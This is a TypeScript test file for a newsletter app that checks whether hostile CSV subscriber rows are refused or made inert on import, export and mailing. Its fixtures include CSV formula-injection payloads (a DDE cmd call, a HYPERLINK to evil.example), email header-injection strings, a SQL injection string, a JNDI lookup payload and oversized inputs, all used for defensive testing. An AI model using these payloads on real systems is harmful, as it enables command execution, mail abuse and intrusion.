// Issue 61: 30 hostile names, addresses and lines of CSV are refused or inert: in the list, in its export and in mails.
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { exportList, importList } from '#app/newsletter/lists.server.ts';
import { describeWithApp, type TestApp } from '#tests/support/app.ts';
import { publishByEmail, runEffects, switchNewsletterOn } from '#tests/support/newsletter/issues.ts';
import { startMoodySmtp, type MoodySmtp } from '#tests/support/newsletter/moody-smtp.ts';
import { tempFolder } from '#tests/support/temp-folder.ts';

/** The address of each line, its name, and whether it may be stored. */
const lines: [email: string, name: string, isStored: boolean][] = [
  ['formula-1@example.org', '=HYPERLINK("http://evil.example","Click")', true],
  ['formula-2@example.org', "=cmd|' /C calc'!A0", true],
  ['formula-3@example.org', '+1+1', true],
  ['formula-4@example.org', '-2+3', true],
  ['formula-5@example.org', '@SUM(1+1)', true],
  ['formula-6@example.org', '  =1+1', true],
  ['formula-7@example.org', '\t=1+1', true],
  ['formula-8@example.org', '＝1+1', true],
  ["=cmd|'/C@example.org", 'A formula as an address', true],
  ['+plus@example.org', 'An address like a formula', true],
  ['-minus@example.org', 'An option of a command', true],
  ['|cat@example.org', 'A pipe', true],
  ['name-1@example.org', 'Ann\r\nBcc: victim@example.org', true],
  ['name-2@example.org', 'Ann\nContent-Type: text/html', true],
  ['name-3@example.org', 'Ann\0Bob', true],
  ['name-4@example.org', 'Ann \u202egro.live\u202c', true],
  ['name-5@example.org', '<script>alert(1)</script>', true],
  ['name-6@example.org', 'A, "B"; <c@example.org>', true],
  ['name-7@example.org', 'x'.repeat(20_000), false],
  ['a@example.org\r\nBcc: victim@example.org', 'Headers in an address', false],
  ['a@example.org\nb@example.org', 'Two lines', false],
  ['a@example.org, victim@example.org', 'Two addresses', false],
  ['"a b"@example.org', 'Quoted', false],
  ['"a@example.org>,<victim"@example.org', 'Quoted route', false],
  ['Ann <a@example.org>', 'With a name', false],
  ['victim%other.example@example.org', 'Percent hack', false],
  ['other.example!victim@example.org', 'Bang path', false],
  ['@relay.example:victim@example.org', 'Source route', false],
  ['a@[127.0.0.1]', 'Address literal', false],
  ['bidi\u202e@example.org', 'Bidirectional marks', false],
  ['zero\u200bwidth@example.org', 'Zero width', false],
  ['a@xn--bcher-kva.example', 'Of an IDN', true],
  ['A@BÜCHER.example', 'The same again', false],
  ["' OR 1=1 --@example.org", 'SQL', false],
  ['${jndi:ldap://evil.example/a}@example.org', 'Lookup', false],
  [`${'a'.repeat(300)}@example.org`, 'Too long', false],
];

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const HEAD = 'email,name,created_at';
const TIME = '2024-01-05T12:00:00.000Z';

let smtp: MoodySmtp;
let folder: string;
beforeEach(async () => {
  smtp = await startMoodySmtp();
  folder = await tempFolder();
});
afterEach(() => smtp.close());

async function load(app: TestApp, text: string) {
  const file = path.join(folder, 'list.csv');
  await writeFile(file, text);
  return importList(app, file, { acceptConsent: false });
}

describeWithApp('hostile lists', (getApp) => {
  it('are refused or inert, line by line', async () => {
    const app = getApp();
    await switchNewsletterOn(app, smtp);
    const text = lines.map(([email, name]) => `${quoted(email)},${quoted(name)},${TIME}`);
    const report = await load(app, [HEAD, ...text].join('\n'));
    const stored = lines.filter(([, , isStored]) => isStored);
    expect(report.imported, JSON.stringify(report.skipped)).toBe(stored.length);
    expect(report.skipped).toHaveLength(lines.length - stored.length);
    const rows = await app.db.subscriber.findMany({ orderBy: { id: 'asc' } });
    expect(rows.map(({ email }) => email).sort()).toEqual(stored.map(([email]) => email).sort());
    for (const { name } of rows) expect(name).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);

    const file = path.join(folder, 'export.csv');
    expect(await exportList(app, file)).toEqual({ count: rows.length });
    const exported = await readFile(file, 'utf8');
    const cells = parse(exported, { bom: true }).flat();
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    expect(await load(app, exported)).toEqual({
      ...{ imported: 0, updated: 0, unchanged: rows.length, skipped: [] },
    });
    expect(await app.db.subscriber.findMany({ orderBy: { id: 'asc' } })).toEqual(rows);

    await publishByEmail(app, 'To all');
    await runEffects(app);
    expect(smtp.received).toHaveLength(stored.length);
    // The test's server reads the ASCII of the wire so.
    expect(smtp.received.map(({ to }) => to)).toContain('a@bücher.example');
    for (const { raw, to } of smtp.received) {
      const head = raw.slice(0, raw.indexOf('\r\n\r\n'));
      expect(head.match(/^(To|Cc|Bcc|Content-Type):/gim), to).toEqual(['To:', 'Content-Type:']);
      expect(raw).not.toContain('victim');
    }
  });

  it.each([
    ['a line of 10 MB', `a@example.org,${'x'.repeat(10_000_000)},${TIME}`],
    ['a field of 10 MB in quotes', `a@example.org,"${'x\n'.repeat(5_000_000)}",${TIME}`],
    ['a quote that does not end', `a@example.org,"Ann,${TIME}\nb@example.org,Bob,${TIME}`],
  ])('%s is refused with its file', async (_name, row) => {
    const app = getApp();
    await expect(load(app, `${HEAD}\nfirst@example.org,,${TIME}\n${row}\n`)).rejects.toThrow(
      /^This is not a CSV file/,
    );
    expect(await app.db.subscriber.count()).toBe(0);
  });

  it.each([
    ['a million commas', ','.repeat(90_000)],
    ['bytes that are no text', '\u{fffd}\u{1}\u{2}@\u{3}'],
    ['no line at all', ''],
  ])('%s: nothing is stored', async (_name, row) => {
    const app = getApp();
    await load(app, `${HEAD}\n${row}\n`);
    expect(await app.db.subscriber.count()).toBe(0);
  });
});
